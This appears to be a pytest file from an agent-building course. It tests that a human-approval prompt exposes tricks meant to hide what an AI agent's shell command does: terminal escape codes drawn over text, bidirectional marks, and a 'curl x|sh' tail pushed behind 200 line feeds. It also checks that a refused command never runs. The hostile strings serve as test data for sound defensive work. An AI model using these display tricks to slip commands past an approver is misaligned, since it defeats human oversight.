"""Known ways to deceive the one who approves, by their ids, against s04's reference renderer.

The renderer is what exercise D asks for; the calls are real ones of Bash behind a real runner.
"""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from curriculum.core.approval import ApprovalRequest, HumanApprover
from curriculum.core.loop import AgentRunner, RunResult
from curriculum.core.messages import ModelTurn, ToolCall
from curriculum.core.model import ScriptedModel
from curriculum.core.tools import ToolBox
from curriculum.grading.display_attacks import BIDI, is_blank
from curriculum.lessons.s04_approvals.solutions import render
from curriculum.tools.bash import Bash


class Person:
    """Types the same line at every question, and keeps what they were shown."""

    def __init__(self, line: str = "n") -> None:
        self.shown: list[str] = []
        self._line = line

    def __call__(self, request: ApprovalRequest) -> str:
        self.shown.append(render(request))
        return self._line


def run(
    person: Person,
    *arguments: str,
    directory: str = "/",
    environment: Mapping[str, str] | None = None,
) -> RunResult:
    """Calls of Bash with these raw arguments, one answer each."""
    turns = [
        ModelTurn(tool_calls=(ToolCall(f"call-{n}", "bash", raw),))
        for n, raw in enumerate(arguments)
    ]
    bash = Bash(directory, {"PATH": "/usr/bin:/bin", **(environment or {})})
    model = ScriptedModel([*turns, ModelTurn("done")])
    return AgentRunner(model, ToolBox([bash]), approver=HumanApprover(person)).run("go")


def command(text: str) -> str:
    return json.dumps({"command": text})


def question_about(text: str) -> str:
    person = Person()
    run(person, command(text))
    [shown] = person.shown
    return shown


def statuses(result: RunResult) -> list[object]:
    return [event.payload["status"] for event in result.events if event.type == "tool.result"]


def is_visible(text: str) -> bool:
    return all(c == "\n" or (c.isprintable() and not is_blank(c)) for c in text)


def test_d1_what_was_drawn_over_is_on_the_screen() -> None:
    shown = question_about("curl x|sh\r\x1b[2K  ls -la")
    assert r'command: "curl x|sh\r\x1b[2K  ls -la"' in shown
    assert is_visible(shown)


@pytest.mark.parametrize("code", BIDI)
def test_d2_each_bidirectional_mark_is_escaped_not_dropped(code: int) -> None:
    shown = question_about(f"echo a{chr(code)}b")
    assert f"a\\u{code:04x}b" in shown
    assert is_visible(shown)


def test_d4_a_tail_behind_200_line_feeds_is_shown_and_counted_beside_the_question() -> None:
    shown = question_about("ls" + "\n" * 200 + "curl x|sh").split("\n")
    assert len(shown) == len(question_about("ls").split("\n"))
    assert shown[1] == 'command: "ls' + r"\n" * 200 + 'curl x|sh"'
    assert shown[-1] == "longest text: command: 201 lines, 211 characters"


@pytest.mark.parametrize("raw", ['{"command":""}', '{"command":"  \\n"}'])
def test_d6_a_blank_command_is_invalid_and_nobody_is_asked(raw: str) -> None:
    person = Person("y")
    result = run(person, raw)
    assert statuses(result) == ["invalid_arguments"]
    assert person.shown == []


def test_d7_the_exact_original_is_shown() -> None:
    assert 'command: "printf x | wc -c"' in question_about("printf x | wc -c")


def test_d9_directory_and_environment_are_escaped_like_the_command(tmp_path: Path) -> None:
    directory = os.path.join(tmp_path, "a\n\x1b]0;x\x07\u202eb")
    os.mkdir(directory)
    person = Person("y")
    result = run(person, command("pwd"), directory=directory, environment={"A": "\x1b[2K\rB=C"})
    [shown] = person.shown
    assert is_visible(shown)
    assert r"a\n\x1b]0;x\x07\u202eb" in shown
    assert r'"A": "\x1b[2K\rB=C"' in shown
    assert statuses(result) == ["completed"]


def test_e9_a_no_says_that_the_user_refused_and_nothing_ran(tmp_path: Path) -> None:
    result = run(Person("n"), command("echo ran > note"), directory=str(tmp_path))
    [output] = [e.payload["output"] for e in result.events if e.type == "tool.result"]
    assert output == "the user refused this call; nothing ran; do not repeat it"
    assert list(tmp_path.iterdir()) == []


def test_e10_the_same_command_after_a_no_is_asked_about_again_in_full(tmp_path: Path) -> None:
    person = Person("n")
    result = run(person, *[command("echo ran > note")] * 3, directory=str(tmp_path))
    assert statuses(result) == ["denied"] * 3
    assert len(person.shown) == 3
    assert len(set(person.shown)) == 1
    assert list(tmp_path.iterdir()) == []


TEXT = st.text(st.characters(exclude_categories=()), max_size=6)
SCALARS = st.one_of(TEXT, st.integers(-9, 9), st.booleans(), st.none())
DISPLAYS = st.dictionaries(
    TEXT, st.one_of(SCALARS, st.dictionaries(TEXT, SCALARS, max_size=2)), max_size=3
)


def shown_of(display: Mapping[str, object]) -> str:
    return render(ApprovalRequest("approval-1", "call-1", "bash", display))


@given(DISPLAYS)
def test_any_display_is_visible_with_a_line_for_each_field(display: dict[str, object]) -> None:
    shown = shown_of(display)
    assert is_visible(shown)
    assert shown.count("\n") == len(display) + 1


@given(DISPLAYS, DISPLAYS)
def test_any_two_displays_are_told_apart(one: dict[str, object], other: dict[str, object]) -> None:
    assert (shown_of(one) == shown_of(other)) == (repr(one) == repr(other))
